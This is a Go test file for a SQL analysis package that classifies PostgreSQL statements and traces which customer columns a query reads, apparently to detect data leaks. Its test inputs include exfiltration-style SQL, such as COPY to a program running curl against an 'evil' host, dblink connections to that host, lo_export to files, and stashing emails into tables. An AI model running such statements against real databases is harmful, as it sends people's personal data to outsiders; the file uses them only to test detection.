package sqltext

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

func TestAnalyze(t *testing.T) {
	a := New(0)
	tests := []struct {
		sql, normalized, cursor, op string
	}{
		{"SELECT * FROM customers WHERE email = 'ann@example.com'", "SELECT * FROM customers WHERE email = $1", "", ""},
		{"select 1 /* note 42 */", "select $1", "", ""},
		{"DECLARE c1 CURSOR WITH HOLD FOR SELECT email FROM customers", "DECLARE c1 CURSOR WITH HOLD FOR SELECT email FROM customers", "c1", "declare"},
		{"FETCH 100 FROM c1", "FETCH 100 FROM c1", "c1", "fetch"},
		{`fetch forward 5 in "My Cursor"`, `fetch forward 5 in "My Cursor"`, "My Cursor", "fetch"},
		{"MOVE ABSOLUTE 10 IN c1", "MOVE ABSOLUTE 10 IN c1", "c1", "move"},
		{"CLOSE c1", "CLOSE c1", "c1", "close"},
		{"SELECT 'fetch' AS word", "SELECT $1 AS word", "", ""},
		{"SELEC broken 'secret@example.com'", "", "", ""},
	}
	for _, tt := range tests {
		info := a.Analyze(tt.sql)
		if info.Normalized != tt.normalized || info.Cursor != tt.cursor || info.CursorOp != tt.op {
			t.Errorf("Analyze(%q) = %q, cursor %q %q; want %q, %q %q", tt.sql, info.Normalized, info.CursorOp, info.Cursor, tt.normalized, tt.op, tt.cursor)
		}
		if (info.Fingerprint == "") != (tt.normalized == "") {
			t.Errorf("Analyze(%q): fingerprint %q", tt.sql, info.Fingerprint)
		}
	}
	// Texts that differ in literals share a fingerprint; the cache answers
	// a repeated text with the same Info.
	x, y := a.Analyze("SELECT * FROM t WHERE id = 1"), a.Analyze("SELECT * FROM t WHERE id = 2")
	if x.Fingerprint != y.Fingerprint {
		t.Errorf("fingerprints differ: %s %s", x.Fingerprint, y.Fingerprint)
	}
	if a.Analyze("SELECT * FROM t WHERE id = 1") != x {
		t.Error("repeated text not served from the cache")
	}
}

func BenchmarkAnalyzeCached(b *testing.B) {
	a := New(0)
	a.Analyze("SELECT abalance FROM pgbench_accounts WHERE aid = $1")
	for i := 0; i < b.N; i++ {
		a.Analyze("SELECT abalance FROM pgbench_accounts WHERE aid = $1")
	}
}

func BenchmarkAnalyzeUncached(b *testing.B) {
	a := New(0)
	for i := 0; i < b.N; i++ {
		a.Analyze("SELECT abalance FROM pgbench_accounts WHERE aid = 12345")
		a.cache.Purge()
	}
}

func TestLineage(t *testing.T) {
	a := New(0)
	tests := []struct {
		sql  string
		want string // per target, refs as q.col joined by ",", targets by " | "; "nil" when unknown
	}{
		{"SELECT md5(email), id FROM customers", "md5(),email | id"},
		{"SELECT reverse(c.email) AS r FROM public.customers c", "reverse(),c.email"},
		{"SELECT encode(convert_to(email, 'UTF8'), 'base64') FROM customers", "encode(),convert_to(),email"},
		{"SELECT length(email), count(DISTINCT email), email IS NULL FROM customers", " |  | "},
		{"SELECT split_part(email, '@', 2) FROM customers", ""},
		{"SELECT split_part(email, '@', 1) FROM customers", "split_part(),email"},
		{"SELECT a.full_name || ' ' || b.email FROM customers a JOIN customers b ON a.id = b.id", "a.full_name,b.email"},
		{"SELECT md5(email) FROM customers UNION ALL SELECT 'x' FROM generate_series(1, 3)", "md5(),email"},
		{"SELECT id, 'x' FROM t UNION SELECT 1, reverse(email) FROM customers", "id | reverse(),email"},
		{"SELECT id, 'x' FROM t UNION SELECT 1, reverse(email) FROM customers EXCEPT SELECT id, full_name FROM t", "id | reverse(),email,full_name"},
		{"SELECT email FROM a UNION (WITH w AS (SELECT md5(phone) AS p FROM b) SELECT p FROM w UNION SELECT email FROM c)", "email,md5(),phone"},
		{"SELECT email, 1 FROM a UNION SELECT email FROM b", "nil"},
		{"WITH x AS (SELECT md5(email) AS h, id FROM customers) SELECT h, id FROM x", "md5(),email | id"},
		{"WITH x(a) AS (SELECT reverse(email) FROM customers) SELECT upper(x.a) FROM x", "upper(),reverse(),email"},
		{"SELECT s.e FROM (SELECT encode(convert_to(email, 'UTF8'), 'base64') AS e FROM customers) s", "encode(),convert_to(),email"},
		{"WITH x AS (SELECT email FROM customers), y AS (SELECT email AS m FROM x) SELECT md5(m) FROM y", "md5(),email"},
		{"SELECT * FROM customers", "nil"},
		{"SELECT c.* FROM customers c", "nil"},
		{"SELECT 1; SELECT 2", "nil"},
		{"SELECT crm.leak(id), id FROM t", "crm.leak(),id | id"},
		{"SELECT * FROM leak_emails()", "*"},
		{"SELECT * FROM leak_emails() e JOIN t ON true", "nil"},
		{"SELECT e.x FROM leak_emails() e", "e.x"},
		{"SELECT (SELECT email FROM customers c WHERE c.id = o.cid) FROM orders o", "email"},
		{"SELECT ARRAY(SELECT reverse(email) FROM customers)", "reverse(),email"},
		{"SELECT EXISTS (SELECT email FROM customers) FROM t", ""},
		{"UPDATE customers SET email = 'x'", "nil"},
		// Transforms the client cannot invert are not the value.
		{"SELECT md5(email || gen_random_uuid()::text) FROM customers", ""},
		{"SELECT sha256(convert_to(email || gen_random_uuid()::text, 'UTF8')) FROM customers", ""},
		{"SELECT sha256(convert_to(email || gen_random_uuid(), 'UTF8') || gen_random_bytes(16)) FROM customers", ""},
		{"SELECT digest(concat(email, encode(gen_random_bytes(16), 'hex')), 'sha256') FROM customers", ""},
		{"SELECT hmac(email, gen_random_bytes(32), 'sha256') FROM customers", ""},
		{"SELECT upper(md5(concat_ws(':', email, uuid_generate_v4()))) FROM customers", "upper()"},
		{"SELECT left(email, 3), substr(phone, 1, 3), substring(phone from 1 for 3), left(full_name::text, 2) FROM customers", " |  |  | "},
		{"SELECT extract(decade FROM birth_date), date_part('century', birth_date), date_trunc('millennium', birth_date::timestamp) FROM patients", " |  | "},
		// ... and those it can are.
		{"SELECT md5(email) FROM customers", "md5(),email"},
		{"SELECT md5(email) || gen_random_uuid() FROM customers", "md5(),email,gen_random_uuid()"},
		{"SELECT md5(email || random()::text) FROM customers", "md5(),email,random()"},
		{"SELECT md5(email || clock_timestamp()::text), md5(email || now()::text) FROM customers", "md5(),email,clock_timestamp() | md5(),email,now()"},
		{"SELECT md5(email || gen_random_bytes(2)) FROM customers", "md5(),email,gen_random_bytes()"},
		{"SELECT md5(email || left(gen_random_uuid()::text, 1)) FROM customers", "md5(),email,left(),gen_random_uuid()"},
		{"SELECT md5(email || CASE WHEN false THEN gen_random_uuid()::text ELSE '' END) FROM customers", "md5(),email,gen_random_uuid()"},
		{"SELECT md5(concat_ws(gen_random_uuid()::text, email)) FROM customers", "md5(),concat_ws(),gen_random_uuid(),email"},
		{"SELECT crypt(email, gen_salt('bf')) FROM customers", "crypt(),email,gen_salt()"},
		{"SELECT extract(year FROM birth_date), date_part('day', birth_date), date_trunc('decade', birth_date + 1) FROM patients", "pg_catalog.extract(),birth_date | date_part(),birth_date | date_trunc(),birth_date"},
		{"SELECT left(email, 4), left(email, -1), substr(email, 2, 3), substr(email, 0, 5) FROM customers", "left(),email | left(),email | substr(),email | substr(),email"},
		{"SELECT left(substr(email, 4), 3), left(reverse(email), 3), left(email, $1) FROM customers", "left(),substr(),email | left(),reverse(),email | left(),email"},
		{"SELECT upper(email), lower(email), reverse(email), encode(convert_to(email, 'UTF8'), 'base64') FROM customers", "upper(),email | lower(),email | reverse(),email | encode(),convert_to(),email"},
	}
	for _, tt := range tests {
		l := a.Lineage(tt.sql)
		got := "nil"
		if l != nil && l.Star {
			got = "*"
		} else if l != nil {
			var targets []string
			for _, tg := range l.Targets {
				var refs []string
				for _, r := range tg.Refs {
					if r.Func != "" {
						name := r.Func + "()"
						if r.FuncSchema != "" {
							name = r.FuncSchema + "." + name
						}
						refs = append(refs, name)
					} else if r.Qualifier != "" {
						refs = append(refs, r.Qualifier+"."+r.Column)
					} else {
						refs = append(refs, r.Column)
					}
				}
				targets = append(targets, strings.Join(refs, ","))
			}
			got = strings.Join(targets, " | ")
		}
		if got != tt.want {
			t.Errorf("Lineage(%q) = %q, want %q", tt.sql, got, tt.want)
		}
	}
	if l := a.Lineage("WITH x AS (SELECT md5(c.email) AS h FROM public.customers c) SELECT h FROM x"); l == nil || len(l.From) != 1 || l.From[0].Table != "customers" || l.From[0].Alias != "c" {
		t.Errorf("CTE From = %+v", l)
	}
	l := a.Lineage("SELECT md5(c.email) FROM public.customers AS c JOIN orders o ON o.cid = c.id")
	if l == nil || len(l.From) != 2 || l.From[0] != (Relation{Schema: "public", Table: "customers", Alias: "c"}) || l.From[1].Table != "orders" {
		t.Errorf("From = %+v", l)
	}
}

func TestLineageRelations(t *testing.T) {
	a := New(0)
	l := a.Lineage("SELECT * FROM crm.leak_emails(3) AS e")
	if l == nil || !l.Star || len(l.From) != 1 || l.From[0] != (Relation{Schema: "crm", Table: "leak_emails", Alias: "e", Func: true}) {
		t.Errorf("function star = %+v", l)
	}
	l = a.Lineage("SELECT (SELECT email FROM customers c WHERE c.id = o.cid) FROM orders o")
	if l == nil || len(l.From) != 2 || l.From[1].Table != "customers" {
		t.Errorf("scalar subquery From = %+v", l)
	}
}

func TestFunctionLineage(t *testing.T) {
	a := New(0)
	tests := []struct{ body, want string }{
		{"SELECT email FROM customers WHERE id = $1", "email"},
		{"UPDATE t SET n = n + 1; SELECT md5(c.email) FROM public.customers c", "md5(),c.email"},
		{"BEGIN ATOMIC\n SELECT 1;\n SELECT full_name FROM customers;\nEND", "full_name"},
		{"RETURN (SELECT email FROM customers WHERE id = 1)", "email"},
		{"RETURN upper($1)", "upper()"},
		{"not sql at all", "nil"},
	}
	for _, tt := range tests {
		l := a.FunctionLineage(tt.body)
		got := "nil"
		if l != nil {
			var parts []string
			for _, tg := range l.Targets {
				for _, r := range tg.Refs {
					switch {
					case r.Func != "":
						parts = append(parts, r.Func+"()")
					case r.Qualifier != "":
						parts = append(parts, r.Qualifier+"."+r.Column)
					default:
						parts = append(parts, r.Column)
					}
				}
			}
			got = strings.Join(parts, ",")
		}
		if got != tt.want {
			t.Errorf("FunctionLineage(%q) = %q, want %q", tt.body, got, tt.want)
		}
	}
}

func TestSearchPathChange(t *testing.T) {
	a := New(0)
	tests := []struct {
		sql  string
		want *PathChange
	}{
		{`SET search_path TO crm, "$user", public`, &PathChange{Schemas: []string{"crm", "$user", "public"}}},
		{`SET search_path = 'crm, "Sales"'`, &PathChange{Schemas: []string{"crm", "Sales"}}},
		{`set LOCAL SEARCH_PATH = billing`, &PathChange{Schemas: []string{"billing"}, Local: true}},
		{`RESET search_path`, &PathChange{Reset: true}},
		{`SET search_path TO DEFAULT`, &PathChange{Reset: true}},
		{`SELECT set_config('search_path', 'crm,public', false)`, &PathChange{Schemas: []string{"crm", "public"}}},
		{`SELECT set_config('search_path', 'crm', true)`, &PathChange{Schemas: []string{"crm"}, Local: true}},
		{`SELECT set_config('search_path', current_user, false)`, &PathChange{Unknown: true}},
		{`SELECT 'search_path'`, nil},
		{`SET work_mem = '4MB'`, nil},
	}
	for _, tt := range tests {
		got := a.Analyze(tt.sql).SearchPath
		if (got == nil) != (tt.want == nil) || got != nil && (!slices.Equal(got.Schemas, tt.want.Schemas) || got.Reset != tt.want.Reset || got.Local != tt.want.Local || got.Unknown != tt.want.Unknown) {
			t.Errorf("%s: SearchPath = %+v, want %+v", tt.sql, got, tt.want)
		}
	}
	if got := ParseSearchPath(` "$user" , Public,"a""b",`); !slices.Equal(got, []string{"$user", "public", `a"b`}) {
		t.Errorf("ParseSearchPath = %q", got)
	}
}

func TestKindsAndRelations(t *testing.T) {
	a := New(0)
	tests := []struct {
		sql   string
		kinds []string
		rels  []string
	}{
		{"SELECT email FROM public.customers c JOIN orders o ON o.cid = c.id", []string{"select"}, []string{"public.customers", "orders"}},
		{"WITH x AS (SELECT * FROM customers) SELECT * FROM x", []string{"select"}, []string{"customers"}},
		{"SELECT (SELECT max(id) FROM crm.leads) FROM t WHERE EXISTS (SELECT 1 FROM u)", []string{"select"}, []string{"crm.leads", "t", "u"}},
		{"COPY customers TO STDOUT", []string{"copy_to_stdout"}, []string{"customers"}},
		{"COPY (SELECT email FROM customers) TO '/tmp/x.csv' CSV", []string{"copy_to_file"}, []string{"customers"}},
		{"COPY customers TO PROGRAM 'curl -d @- http://evil'", []string{"copy_to_program"}, []string{"customers"}},
		{"COPY customers FROM STDIN", []string{"copy_from"}, []string{"customers"}},
		{"CREATE TABLE stash AS SELECT email FROM customers", []string{"create_table_as"}, []string{"customers", "stash"}},
		{"SELECT email INTO stash FROM customers", []string{"create_table_as"}, []string{"stash", "customers"}},
		{"CREATE MATERIALIZED VIEW mv AS SELECT email FROM customers", []string{"create_table_as"}, []string{"customers", "mv"}},
		{"INSERT INTO stash SELECT email FROM customers", []string{"dml", "insert_select"}, []string{"stash", "customers"}},
		{"INSERT INTO t VALUES (1)", []string{"dml"}, []string{"t"}},
		{"INSERT INTO pg_temp.stash VALUES ((SELECT string_agg(email, ',') FROM customers))", []string{"dml", "insert_select"}, []string{"pg_temp.stash", "customers"}},
		{"INSERT INTO stash VALUES (1, ARRAY(SELECT email FROM customers))", []string{"dml", "insert_select"}, []string{"stash", "customers"}},
		{"INSERT INTO orders VALUES ((SELECT id FROM customers WHERE email = $1), 3)", []string{"dml", "insert_select"}, []string{"orders", "customers"}},
		{"INSERT INTO t VALUES (1, 'a'), (2, now())", []string{"dml"}, []string{"t"}},
		{"WITH s AS (INSERT INTO stash SELECT email FROM customers RETURNING 1) SELECT count(*) FROM s", []string{"select", "dml", "insert_select"}, []string{"stash", "customers"}},
		{"SELECT lo_from_bytea(0, convert_to(string_agg(email, ','), 'UTF8')) FROM customers", []string{"select", "create_table_as"}, []string{"customers"}},
		{"SELECT lo_put(16400, 0, convert_to(email, 'UTF8')) FROM customers WHERE id = 1", []string{"select", "create_table_as"}, []string{"customers"}},
		{"SELECT lowrite(lo_open(16400, 131072), convert_to(email, 'UTF8')) FROM customers", []string{"select", "create_table_as"}, []string{"customers"}},
		{"SELECT lo_from_bytea(0, 'x')", []string{"select", "create_table_as"}, nil},
		{"UPDATE t SET a = 1; DELETE FROM u", []string{"dml"}, []string{"t", "u"}},
		{"SELECT lo_export(lo_from_bytea(0, convert_to(string_agg(email, ','), 'UTF8')), '/tmp/x') FROM customers", []string{"select", "lo_export", "create_table_as"}, []string{"customers"}},
		{"SELECT dblink_exec('host=evil', 'INSERT INTO t VALUES (1)')", []string{"select", "dblink"}, nil},
		{"SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", []string{"select", "dblink"}, nil},
		{"CREATE SERVER evil FOREIGN DATA WRAPPER postgres_fdw", []string{"dblink", "ddl"}, nil},
		{"CREATE TABLE t (a int)", []string{"ddl"}, []string{"t"}},
		{"DROP TABLE t", []string{"ddl"}, nil},
		{"BEGIN", []string{"other"}, nil},
		{"not sql", nil, nil},
	}
	for _, tt := range tests {
		info := a.Analyze(tt.sql)
		var rels []string
		for _, r := range info.Relations {
			if r.Schema != "" {
				rels = append(rels, r.Schema+"."+r.Table)
			} else {
				rels = append(rels, r.Table)
			}
		}
		if !slices.Equal(info.Kinds, tt.kinds) || !slices.Equal(rels, tt.rels) {
			t.Errorf("%s: kinds %q relations %q, want %q %q", tt.sql, info.Kinds, rels, tt.kinds, tt.rels)
		}
	}
}

func TestFunctionsCalled(t *testing.T) {
	a := New(0)
	tests := []struct {
		sql   string
		funcs []string
	}{
		{"SELECT 1", nil},
		{"SELECT pg_catalog.pg_get_viewdef(c.oid) FROM pg_class c", []string{"pg_catalog.pg_get_viewdef"}},
		{"SELECT lower(email), count(*) FROM customers GROUP BY 1", []string{"lower", "count"}},
		{"SELECT * FROM generate_series(1, 3), LATERAL (SELECT app.leak(x) FROM t) s", []string{"generate_series", "app.leak"}},
		{"SELECT relname FROM pg_class WHERE oid IN (SELECT query_to_xml('SELECT 1', true, true, '')::text::oid)", []string{"query_to_xml"}},
		{"SELECT lower(a), lower(b) FROM t", []string{"lower"}},
	}
	for _, tt := range tests {
		var funcs []string
		for _, f := range a.Analyze(tt.sql).Functions {
			if !f.Func {
				t.Errorf("%s: %+v is not marked a function", tt.sql, f)
			}
			if f.Schema != "" {
				funcs = append(funcs, f.Schema+"."+f.Table)
			} else {
				funcs = append(funcs, f.Table)
			}
		}
		if !slices.Equal(funcs, tt.funcs) {
			t.Errorf("%s: functions %q, want %q", tt.sql, funcs, tt.funcs)
		}
	}
}

func TestEstimableQuery(t *testing.T) {
	for _, tt := range []struct {
		sql, want string
		params    bool
	}{
		{"SELECT * FROM customers", "SELECT * FROM customers", false},
		{"DECLARE c CURSOR FOR SELECT email FROM customers WHERE id > 5", "SELECT email FROM customers WHERE id > 5", false},
		{"COPY (SELECT email FROM customers) TO STDOUT", "SELECT email FROM customers", false},
		{`COPY "My"."T" TO STDOUT`, `SELECT * FROM "My"."T"`, false},
		{"SELECT email FROM customers WHERE id = $1", "SELECT email FROM customers WHERE id = $1", true},
		{"DECLARE c CURSOR FOR SELECT email FROM customers WHERE id > $1", "SELECT email FROM customers WHERE id > $1", true},
		{"COPY customers TO '/tmp/x'", "", false},
		{"SELECT 1; SELECT 2", "", false},
		{"SELECT email INTO t FROM customers", "", false},
		{"UPDATE t SET a = 1", "", false},
		{joined(MaxPlannedRelations), joined(MaxPlannedRelations), false},
		{joined(MaxPlannedRelations + 1), "", false},
		{chainedCTEs(MaxPlannedRelations), chainedCTEs(MaxPlannedRelations), false},
		{chainedCTEs(3000), "", false},
		{nestedQueries(MaxPlannedQueries - 1), nestedQueries(MaxPlannedQueries - 1), false},
		{nestedQueries(MaxPlannedQueries), "", false},
	} {
		got, params, ok := EstimableQuery(tt.sql)
		if got != tt.want || ok != (tt.want != "") || params != tt.params {
			t.Errorf("EstimableQuery(%q) = %q, %v, %v; want %q, %v", tt.sql, got, params, ok, tt.want, tt.params)
		}
	}
}

// joined is a SELECT joining n tables.
func joined(n int) string {
	var b strings.Builder
	b.WriteString("SELECT t0.email FROM t0")
	for i := 1; i < n; i++ {
		fmt.Fprintf(&b, " JOIN t%d ON t%d.id = t%d.id", i, i, i-1)
	}
	return b.String()
}

// nestedQueries is a SELECT from a subquery, n deep.
func nestedQueries(n int) string {
	q := "SELECT 1 AS x"
	for i := 0; i < n; i++ {
		q = fmt.Sprintf("SELECT x FROM (%s) s%d", q, i)
	}
	return q
}

// chainedCTEs is a SELECT over n CTEs, each reading the one before.
func chainedCTEs(n int) string {
	var b strings.Builder
	b.WriteString("WITH c1 AS (SELECT 1 AS x)")
	for i := 2; i <= n; i++ {
		fmt.Fprintf(&b, ", c%d AS (SELECT x FROM c%d)", i, i-1)
	}
	fmt.Fprintf(&b, " SELECT x FROM c%d", n)
	return b.String()
}

func TestProbes(t *testing.T) {
	a := New(0)
	tests := []struct {
		sql  string
		want string // probed columns joined by ","; "nil" when none
	}{
		{"SELECT count(*) FROM customers WHERE ssn < $1", "ssn"},
		{"SELECT count(*) FROM customers c WHERE c.ssn BETWEEN '100' AND $1 AND id > 3", "c.ssn,id"},
		{"SELECT id FROM customers WHERE email IN ('a@x.com', $1) OR lower(email) LIKE 'ann%'", "email"},
		{"SELECT id FROM customers WHERE phone = ANY($1::text[])", "phone"},
		{"SELECT 1 WHERE EXISTS (SELECT 1 FROM crm.people p WHERE p.ssn >= $1 + 10)", "p.ssn"},
		{"DELETE FROM customers WHERE $1 = email", "email"},
		{"SELECT o.id FROM orders o JOIN customers c ON c.id = o.cid", "nil"},
		{"SELECT id FROM customers WHERE email = other_email", "nil"},
		{"SELECT id FROM customers WHERE length(email) > 3", "nil"},
		{"SELECT count(*) FROM customers", "nil"},
		{"SELECT count(*) FROM customers WHERE ssn IS NULL", "nil"},
		{"not sql", "nil"},
	}
	for _, tt := range tests {
		l := a.Probes(tt.sql)
		got := "nil"
		if l != nil {
			var refs []string
			for _, r := range l.Targets[0].Refs {
				if r.Qualifier != "" {
					refs = append(refs, r.Qualifier+"."+r.Column)
				} else {
					refs = append(refs, r.Column)
				}
			}
			got = strings.Join(refs, ",")
		}
		if got != tt.want {
			t.Errorf("Probes(%q) = %q, want %q", tt.sql, got, tt.want)
		}
	}
	if l := a.Probes("SELECT 1 FROM crm.people p WHERE p.ssn = $1"); l == nil || len(l.From) != 1 || l.From[0] != (Relation{Schema: "crm", Table: "people", Alias: "p"}) {
		t.Errorf("relations: %+v", l)
	}
}
